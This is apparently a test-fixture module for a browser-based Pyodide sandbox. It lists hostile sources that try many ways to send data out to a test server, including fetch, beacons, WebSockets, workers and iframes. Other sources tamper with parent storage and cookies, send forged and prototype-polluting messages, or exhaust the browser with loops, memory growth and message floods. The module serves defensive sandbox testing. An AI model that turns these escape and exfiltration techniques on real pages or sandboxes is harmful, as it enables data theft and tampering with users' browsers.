"""Hostile sources for the workshop's frame: what each tries, and where a server listens for it."""

from __future__ import annotations

from collections.abc import Mapping

ATTEMPT = """# kesu-workshop 1 game
import js
from pyodide.ffi import to_js
from js import Object

URL, PORT = {url!r}, {port}
CAME = []


def attempt(name, act):
    try:
        act()
        CAME.append(name)
    except Exception as error:
        CAME.append(name + " refused")


def options(**named):
    return to_js(named, dict_converter=Object.fromEntries)


def element(tag, **attributes):
    made = js.document.createElement(tag)
    for name, value in attributes.items():
        made.setAttribute(name.rstrip("_"), value)
    js.document.head.append(made)
    js.document.body.append(made.cloneNode(True))
    return made


def form():
    made = element("form", action=URL + "form", method="post")
    made.submit()


def image():
    js.Image.new().src = URL + "image"


def worker():
    js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(["fetch('" + URL + "worker')"]))))


def framed():
    frame = js.document.createElement("iframe")
    js.document.body.append(frame)
    frame.contentWindow.fetch(URL + "inner")
    frame.contentWindow.RTCPeerConnection


def xslt():
    template = '<xsl:template match="/"><iframe srcdoc="&lt;p&gt;out&lt;/p&gt;"/></xsl:template>'
    sheet = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' + template
    sheet += "</xsl:stylesheet>"
    parsed = js.DOMParser.new()
    processor = js.XSLTProcessor.new()
    processor.importStylesheet(parsed.parseFromString(sheet, "text/xml"))
    fragment = processor.transformToFragment(parsed.parseFromString("<x/>", "text/xml"), js.document)
    js.document.body.append(fragment)


def rtc():
    js.RTCPeerConnection.new(options(iceServers=[{{"urls": f"stun:127.0.0.1:{{PORT}}"}}])).createDataChannel("x")


for name, act in {{
    "fetch": lambda: js.fetch(URL + "fetch?secret"),
    "xhr": lambda: (lambda x: (x.open("GET", URL + "xhr"), x.send()))(js.XMLHttpRequest.new()),
    "socket": lambda: js.WebSocket.new(URL.replace("http", "ws") + "socket"),
    "events": lambda: js.EventSource.new(URL + "events"),
    "beacon": lambda: js.navigator.sendBeacon(URL + "beacon", "x"),
    "rtc": rtc,
    "xslt": xslt,
    "image": image,
    "style": lambda: element("style").append("@import url(" + URL + "style)"),
    "background": lambda: js.document.body.style.setProperty("background-image", "url(" + URL + "background)"),
    "sheet": lambda: element("link", rel="stylesheet", href=URL + "sheet"),
    "prefetch": lambda: element("link", rel="prefetch", href=URL + "prefetch"),
    "script": lambda: element("script", src=URL + "script"),
    "media": lambda: element("video", src=URL + "media"),
    "font": lambda: js.FontFace.new("x", "url(" + URL + "font)").load(),
    "frame": lambda: element("iframe", src=URL + "frame"),
    "framed": framed,
    "form": form,
    "ping": lambda: element("a", href="#x", ping=URL + "ping").click(),
    "worker": worker,
    "own worker": lambda: js.Worker.new("../static/film.js", options(type="module", name=URL + "own")),
    "refresh": lambda: element("meta", **{{"http-equiv": "refresh", "content": "0;url=" + URL + "refresh"}}),
    "popup": lambda: js.open(URL + "popup"),
    "parent": lambda: js.parent.document.body.append("forged"),
    "parent store": lambda: js.parent.localStorage.clear(),
    "top": lambda: js.top.location.assign(URL + "top"),
    "top script": lambda: js.top.location.assign("javascript:localStorage.clear()"),
    "store": lambda: js.localStorage.setItem("kesu/settings", "forged"),
    "session store": lambda: js.sessionStorage.setItem("kesu/again", "1"),
    "cookie": lambda: setattr(js.document, "cookie", "a=1"),
    "caches": lambda: js.caches.delete("kesu-build"),
    "service worker": lambda: js.navigator.serviceWorker.register("../sw.js"),
    "channel": lambda: js.BroadcastChannel.new("kesu").postMessage("forged"),
    "eval": lambda: js.eval("fetch('" + URL + "eval')"),
    "function": lambda: js.Function.new("fetch('" + URL + "function')")(),
    "forged": lambda: [js.kesuTell(text) for text in FORGED],
}}.items():
    attempt(name, act)

raise ValueError(", ".join(name for name in CAME if not name.endswith("refused")))
"""
"""Tries every way to reach out, one after the other, then fails with a list of those that were not refused at once."""

AT_ONCE = (
    "parent",
    "parent store",
    "store",
    "cookie",
    "caches",
    "eval",
    "function",
    "rtc",
    "xslt",
    "framed",
    "own worker",
)
"""The attempts that Chromium refuses at once; the others simply never arrive."""

FORGED = """
FORGED = [
    "", "null", "[]", "1", "{", "[" * 10_000, '{"is": "constructor"}', '{"is": "__proto__"}', '{"is": "shown"}',
    '{"is": "shown", "task": 1, "title": {"x": 1}}', '{"is": "failed", "task": 1e300, "line": -1, "problem": "x"}',
    '{"is": "failed", "task": 1, "line": 1, "problem": "' + "x" * 1000 + '"}',
    '{"is": "games", "task": 1, "player": -1}',
    '{"is": "ready", "__proto__": {"polluted": 1}}', "x" * 30_000_000,
]
"""

ALONE: Mapping[str, str] = {
    "a loop": "while True:\n    pass\n",
    "a loop that catches": "while 1:\n    try:\n        while 1: pass\n    except Exception:\n        x = 2\n",
    "much memory": "rows = []\nwhile True:\n    rows.append(bytearray(10_000_000))\n",
    "a deep call": "def f():\n    return f()\n\n\nf()\n",
    "the end of the program": "raise SystemExit\n",
    "no game": "x = 1\n",
    "no Python": "board[(\n",
    "half a megabyte": "x = 1\n" * 80_000,
}
"""Sources that harm only themselves; each ends in a message."""

FORGE = """
import js
from pyodide.ffi import to_js

GAMES = '{"is": "games", "task": 1, "player": 0, "values": [1e308, -1e308], "lines": ["forged"]}'
SHAPES = [
    1, None, True, "", "[]", '{"is": "shown"}', '{"is": "begun", "task": 1, "players": ["<b>forged</b>"]}', GAMES,
    to_js({"is": "beat"}), to_js([1, [2, [3]]]), to_js(b"forged"), js.Map.new(), js.Error.new("forged"), "x" * 20_001,
]

"""
FLOODS: Mapping[str, str] = {
    "signs of life": 'import js\n\nwhile True:\n    js.kesuTell(\'{"is": "beat"}\')\n',
    "forged shapes": FORGE
    + 'for number in range(3000):\n    js.parent.postMessage(SHAPES[number % len(SHAPES)], "*")\n',
    "lines": "import js\n\nfor number in range(100_000):\n    js.kesuLine(number)\n",
    "odd lines": FORGE + "for number in range(100_000):\n    js.kesuLine(SHAPES[number % 4])\n",
}
"""Sources that flood the surrounding page with messages."""
FLOODED = "/too many messages|longer than 2 seconds/.test(document.getElementById('message').textContent)"
"""How each ends: on a slow machine the time limit of two seconds may come before the limit on messages."""

AWAY = "import js\n\njs.location.assign({url!r} + 'away?secret')\nx = 1\n"


def reaching_out(url: str, port: int) -> str:
    """Returns the source that tries every way to reach out."""
    text = ATTEMPT.format(url=url, port=port)
    return text.replace("\n\ndef attempt", FORGED + "\n\ndef attempt", 1)
